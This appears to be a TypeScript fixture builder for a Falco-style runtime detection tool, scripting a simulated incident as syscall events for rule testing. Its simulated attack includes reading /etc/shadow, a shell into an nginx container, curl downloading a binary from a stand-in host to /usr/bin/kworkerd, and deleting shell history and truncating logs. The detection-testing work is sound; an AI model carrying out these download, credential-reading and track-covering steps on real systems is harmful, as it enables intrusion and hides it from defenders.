// The scenarios behind the bundled fixtures, written with the capture builder
// until the recorder can produce them from a real machine. Each reads like an
// incident: what ran, as whom, where, and which classic Falco detections it
// should trip once rules are replayed over it.
import { CaptureBuilder, PPM_O } from '../src/capture/builder.js';
import { encodeSockTuple } from '../src/capture/socket-encoding.js';

const WEB_CONTAINER = '3ad7b26ded6d8e7e2a3c45b5f3c2a0f9e0c1d5b7a8f6e4d3c2b1a09f8e7d6c5b';
const WEB_CGROUPS = [`cpuset=/system.slice/docker-${WEB_CONTAINER}.scope`, `memory=/system.slice/docker-${WEB_CONTAINER}.scope`];
const MS = 1_000_000;

/**
 * demo.fcap: an nginx container serving traffic; an operator reads /etc/shadow
 * with sudo and edits .bashrc; then someone execs a terminal shell into the
 * container, installs curl, drops a binary below /usr/bin, phones home and
 * covers their tracks (history deleted, log truncated).
 */
export function demoScenario(): CaptureBuilder {
  const b = new CaptureBuilder({
    hostname: 'web-01',
    kernelRelease: '6.18.44-falco-ts-demo',
    recorderVersion: 'falco-ts 0.1.0 (builder scenario "demo")',
    options: { source: 'builder', scenario: 'demo', snaplen: 0 },
  });
  b.addUser({ uid: 0, name: 'root', home: '/root', shell: '/bin/bash' });
  b.addUser({ uid: 33, name: 'www-data', home: '/var/www', shell: '/usr/sbin/nologin' });
  b.addUser({ uid: 1000, name: 'alice', home: '/home/alice', shell: '/bin/bash' });
  b.addUser({ uid: 0, name: 'root', home: '/root', shell: '/bin/sh', container: WEB_CONTAINER });
  b.addGroup({ gid: 0, name: 'root' });
  b.addGroup({ gid: 33, name: 'www-data' });
  b.addGroup({ gid: 1000, name: 'alice' });
  b.addContainer({
    id: WEB_CONTAINER, name: 'web', image: 'docker.io/library/nginx:1.27', imageTag: '1.27',
    imageId: 'sha256:9bea9f2796e236cb18c2b3ad561ff29f655d1001f9ec7247a0bc5e08d25652a1', runtime: 'docker',
    labels: { 'com.docker.compose.service': 'web' },
  });

  b.addThread({ tid: 1, ppid: 0, comm: 'systemd', exepath: '/usr/lib/systemd/systemd', args: ['--system', '--deserialize', '31'] });
  b.addThread({ tid: 812, comm: 'sshd', exepath: '/usr/sbin/sshd', args: ['-D'], fds: [{ fd: 3, type: 'ipv4-server', name: '0.0.0.0:22', tuple: { l4proto: 'tcp', sip: '0.0.0.0', sport: 22, dip: '', dport: 0 } }] });
  b.addThread({ tid: 2190, ppid: 812, comm: 'sshd', exepath: '/usr/sbin/sshd', args: ['alice@pts/0'], uid: 1000, gid: 1000, loginuid: 1000 });
  b.addThread({
    tid: 2201, ppid: 2190, comm: 'bash', exe: '-bash', exepath: '/usr/bin/bash', uid: 1000, gid: 1000, loginuid: 1000, tty: 34816,
    cwd: '/home/alice', env: ['HOME=/home/alice', 'USER=alice', 'SHELL=/bin/bash', 'TERM=xterm-256color'],
    fds: [{ fd: 0, type: 'file', name: '/dev/pts/0' }, { fd: 1, type: 'file', name: '/dev/pts/0' }, { fd: 2, type: 'file', name: '/dev/pts/0' }],
  });
  b.addThread({ tid: 3100, comm: 'containerd-shim', exepath: '/usr/bin/containerd-shim-runc-v2', args: ['-namespace', 'moby', '-id', WEB_CONTAINER] });
  const nginx = { exepath: '/usr/sbin/nginx', cgroups: WEB_CGROUPS, cwd: '/' };
  b.addThread({ tid: 3150, ppid: 3100, vtid: 1, vpid: 1, comm: 'nginx', args: ['-g', 'daemon off;'], ...nginx, fds: [{ fd: 6, type: 'ipv4-server', name: '0.0.0.0:80', tuple: { l4proto: 'tcp', sip: '0.0.0.0', sport: 80, dip: '', dport: 0 } }] });
  b.addThread({ tid: 3151, pid: 3151, ppid: 3150, vtid: 29, vpid: 29, comm: 'nginx', args: ['worker', 'process'], uid: 33, gid: 33, ...nginx, fds: [{ fd: 6, type: 'ipv4-server', name: '0.0.0.0:80' }] });

  // Background: nginx serves three requests.
  for (let i = 0; i < 3; i++) {
    b.tick(40 * MS);
    const fd = 10 + i;
    b.emit(3151, 'SOCKET_ACCEPT4_6_X', { fd, tuple: encodeSockTuple(`198.51.100.${20 + i}`, 51000 + i, '172.17.0.2', 80), queuepct: 0, queuelen: 0, queuemax: 511, flags: 0 }, 1);
    b.tick(MS).emit(3151, 'SYSCALL_READ_X', { res: 412, data: null, fd, size: 1024 }, 1);
    b.tick(MS).openat(3151, '/usr/share/nginx/html/index.html', 14, PPM_O.RDONLY | PPM_O.CLOEXEC, 1);
    b.tick(MS).read(3151, 14, 615, 1);
    b.tick(MS).write(3151, fd, 853, 1);
    b.tick(MS).close(3151, 14, 1);
    b.tick(MS).close(3151, fd, 1);
  }

  // An operator reads /etc/shadow through sudo, then edits .bashrc.
  b.tick(200 * MS).spawn(2201, 2301);
  b.tick(MS).exec(2301, { exepath: '/usr/bin/sudo', args: ['cat', '/etc/shadow'] });
  b.tick(5 * MS).spawn(2301, 2302);
  b.tick(MS).exec(2302, { exepath: '/usr/bin/cat', args: ['/etc/shadow'], uid: 0, gid: 0 });
  b.tick(MS).openat(2302, '/etc/shadow', 3);
  b.tick(MS).read(2302, 3, 1271);
  b.tick(MS).write(2302, 1, 1271);
  b.tick(MS).close(2302, 3);
  b.tick(MS).exit(2302);
  b.tick(MS).exit(2301);
  b.tick(300 * MS).openat(2201, '/home/alice/.bashrc', 3, PPM_O.WRONLY | PPM_O.APPEND);
  b.tick(MS).write(2201, 3, 38);
  b.tick(MS).close(2201, 3);

  // Someone execs an interactive shell into the web container.
  b.tick(800 * MS).spawn(3100, 3300);
  const inContainer = { cgroups: WEB_CGROUPS, cwd: '/', uid: 0, gid: 0, tty: 34817 };
  b.tick(MS).exec(3300, { exepath: '/bin/sh', exe: 'sh', args: ['-i'], ...inContainer });
  b.tick(400 * MS).spawn(3300, 3301);
  b.tick(MS).exec(3301, { exepath: '/usr/bin/apt-get', exe: 'apt-get', args: ['install', '-y', 'curl'], ...inContainer });
  b.tick(20 * MS).openat(3301, '/var/lib/dpkg/status', 4);
  b.tick(MS).read(3301, 4, 65536);
  b.tick(MS).close(3301, 4);
  b.tick(MS).exit(3301);
  b.tick(2000 * MS).spawn(3300, 3302);
  b.tick(MS).exec(3302, { exepath: '/usr/bin/curl', exe: 'curl', args: ['-s', '-o', '/usr/bin/kworkerd', 'http://203.0.113.7:4444/k'], ...inContainer });
  b.tick(2 * MS).connect(3302, 5, ['172.17.0.2', 40122], ['203.0.113.7', 4444]);
  b.tick(MS).emit(3302, 'SOCKET_SENDTO_X', { res: 96, data: null, fd: 5, size: 96, tuple: null });
  b.tick(30 * MS).openat(3302, '/usr/bin/kworkerd', 6, PPM_O.WRONLY | PPM_O.CREAT | PPM_O.TRUNC);
  b.tick(MS).write(3302, 6, 884736);
  b.tick(MS).close(3302, 6);
  b.tick(MS).close(3302, 5);
  b.tick(MS).exit(3302);
  b.tick(500 * MS).emit(3300, 'SYSCALL_UNLINKAT_2_X', { res: 0, dirfd: -100, name: '/root/.ash_history', flags: 0 });
  b.tick(MS).openat(3300, '/var/log/nginx/access.log', 7, PPM_O.WRONLY | PPM_O.TRUNC);
  b.tick(MS).close(3300, 7);
  b.tick(200 * MS).exit(3300);

  b.stats = {
    ts: b.now, events: b.events.length, drops: 0, dropsBuffer: 0, dropsScratchMap: 0, dropsPageFault: 0, dropsBug: 0, preemptions: 0,
    perCpu: [{ cpu: 0, events: b.events.filter((e) => e.cpu === 0).length, drops: 0 }, { cpu: 1, events: b.events.filter((e) => e.cpu === 1).length, drops: 0 }],
  };
  return b;
}

/** Every bundled fixture: file name under fixtures/ and how to build it. */
export const FIXTURES: Record<string, () => CaptureBuilder> = {
  'demo.fcap': demoScenario,
};
